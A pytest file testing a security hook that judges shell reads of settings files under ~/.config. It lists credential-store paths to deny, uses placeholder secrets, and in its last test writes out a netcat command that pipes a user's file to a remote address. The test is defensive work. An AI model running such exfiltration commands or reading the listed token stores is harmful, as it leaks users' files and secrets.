"""workspace_boundary: a tool's settings file under ~/.config is judged by what it holds.

Settled call (LABELLING.md): whole reads of the user's own settings files are benign unless the
file holds a token, a password/secret setting or a ``user:pass@`` URL. Beyond the named files, a
settings-named file directly in a tool's folder under ~/.config (``settings``, ``*rc``,
``*.toml``/``*.yaml``/``*.json``/``*.conf``) is read from the machine and judged the same way;
names that say they hold logins (token, auth, credentials, hosts …) are not settings, and the
known token stores of platform CLIs stay secret files.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

HOOK = "security/workspace_boundary.py"


@pytest.fixture
def home(project: Path) -> Path:
    return project.parent / "home"


@pytest.mark.parametrize(
    ("rel", "text"),
    [
        (".config/mlflow/settings", "[default]\ntracking_uri = http://localhost:5000\n"),
        (".config/btop/btop.conf", 'color_theme = "Default"\nupdate_ms = 2000\n'),
        (".config/alacritty/alacritty.toml", "[font]\nsize = 12.0\n"),
        (".config/lazygit/config.yml", "gui:\n  theme:\n    lightTheme: false\n"),
        (".config/ripgreprc", None),  # a file directly under ~/.config is not in a tool's folder
    ],
)
def test_settings_without_credentials_pass(kit: Any, project: Path, home: Path, rel: str, text: str | None) -> None:
    if text is None:
        kit.expect_decision(HOOK, f"cat ~/{rel}", project, "deny", "outside-project")
        return
    path = home / rel
    path.parent.mkdir(parents=True)
    path.write_text(text)
    kit.expect_decision(HOOK, f"cat ~/{rel}", project, None)
    kit.expect_decision(HOOK, f"head -20 ~/{rel}", project, None)


def test_a_settings_file_that_is_not_there_shows_nothing(kit: Any, project: Path) -> None:
    kit.expect_decision(HOOK, "cat ~/.config/zellij/config.kdl", project, None)


@pytest.mark.parametrize(
    "text",
    [
        "[default]\napi_key = 3f9a8c7e6d5b4a39281706f5e4d3c2b1a0998877\n",
        "registry: https://deploy:Sup3rS3cret@registry.example.org\n",
        "token: abc\n",
    ],
)
def test_settings_holding_credentials_ask(kit: Any, project: Path, home: Path, text: str) -> None:
    path = home / ".config" / "mlflow" / "settings"
    path.parent.mkdir(parents=True)
    path.write_text(text)
    kit.expect_decision(HOOK, "cat ~/.config/mlflow/settings", project, "ask", "user-settings-read")


@pytest.mark.parametrize(
    "rel",
    [
        ".config/someapp/token.json",
        ".config/registry/auth.json",
        ".config/cli/credentials.yml",
        ".config/gh/hosts.yml",
        ".config/pip/pip.conf",  # package indexes: often a user:password@ index URL
        ".config/helm/repositories.yaml",
        ".config/someapp/data/settings.json",  # deeper: the tool's data, not its settings file
    ],
)
def test_login_stores_and_deeper_files_stay_outside_reads(kit: Any, project: Path, rel: str) -> None:
    kit.expect_decision(HOOK, f"cat ~/{rel}", project, "deny", "outside-project")


@pytest.mark.parametrize(
    "rel",
    [
        ".config/flyctl/config.yml",
        ".config/containers/auth.json",
        ".config/wrangler/config/default.toml",
        ".config/ngrok/ngrok.yml",
        ".config/twilio-cli/config.json",
    ],
)
def test_platform_login_stores_are_secret_files(kit: Any, project: Path, rel: str) -> None:
    kit.expect_decision("security/secrets_guard.py", f"cat ~/{rel}", project, "deny", "secret-file")


def test_settings_sent_away_are_not_judged_by_content(kit: Any, project: Path, home: Path) -> None:
    # As for ~/.gitconfig: piped to another machine, the harmless content does not make it pass.
    path = home / ".config" / "btop" / "btop.conf"
    path.parent.mkdir(parents=True)
    path.write_text("update_ms = 2000\n")
    command = "cat ~/.config/btop/btop.conf | nc 203.0.113.9 9000"
    kit.expect_decision(HOOK, command, project, "ask", "user-settings-read")
